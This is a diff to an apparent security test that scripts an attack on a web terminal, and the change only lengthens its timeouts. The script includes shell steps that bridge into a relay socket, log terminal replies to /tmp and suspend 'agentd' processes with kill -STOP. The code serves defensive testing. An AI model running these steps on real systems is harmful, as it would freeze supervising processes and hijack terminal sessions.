@@ -42,7 +42,7 @@ net.createServer((c) => { const up = net.connect('/run/orchestra/relay.sock'); c
     s.onmessage = (e) => fs.appendFileSync('/tmp/term.answers', Buffer.from(e.data).toString('latin1'))
   }
 })
-setTimeout(() => process.exit(0), 120000)
+setTimeout(() => process.exit(0), 240000)
 EOF
 rm -f /tmp/term.*ed /tmp/term.answers /tmp/term.up
 for p in /proc/[0-9]*; do if tr '\\0' ' ' <$p/cmdline 2>/dev/null | grep -q agentd; then kill -STOP \${p#/proc/} && echo \${p#/proc/}; fi; done >/tmp/held
@@ -61,10 +61,10 @@ const attack: Attack = {
     const { page } = browser
     try {
       await evil.sh(server)
-      await untilHolds(15_000, async () => ((await evil.try('test -e /tmp/term.up')).code === 0 ? null : 'hostile code did not get the link'))
+      await untilHolds(30_000, async () => ((await evil.try('test -e /tmp/term.up')).code === 0 ? null : 'hostile code did not get the link'))
       const answers = async (): Promise<string> => (await evil.try('cat /tmp/term.answers 2>/dev/null')).out
       await page.goto(`${t.origin}/s/evil/term`)
-      await untilHolds(40_000, async () => ((await answers()).includes('\u001b[0n') ? null : `the page's terminal did not draw what was sent: ${JSON.stringify((await evil.try('cat /tmp/term.opened /tmp/term.log')).out)}; the page says ${JSON.stringify([...browser.faults, ...browser.heard].slice(-6))}`))
+      await untilHolds(90_000, async () => ((await answers()).includes('\u001b[0n') ? null : `the page's terminal did not draw what was sent: ${JSON.stringify((await evil.try('cat /tmp/term.opened /tmp/term.log')).out)}; the page says ${JSON.stringify([...browser.faults, ...browser.heard].slice(-6))}`))
       const clickLinks = async (): Promise<void> => {
         const box = await page.locator('.xterm-screen:visible').last().boundingBox()
         need(box !== null, 'there is no screen')
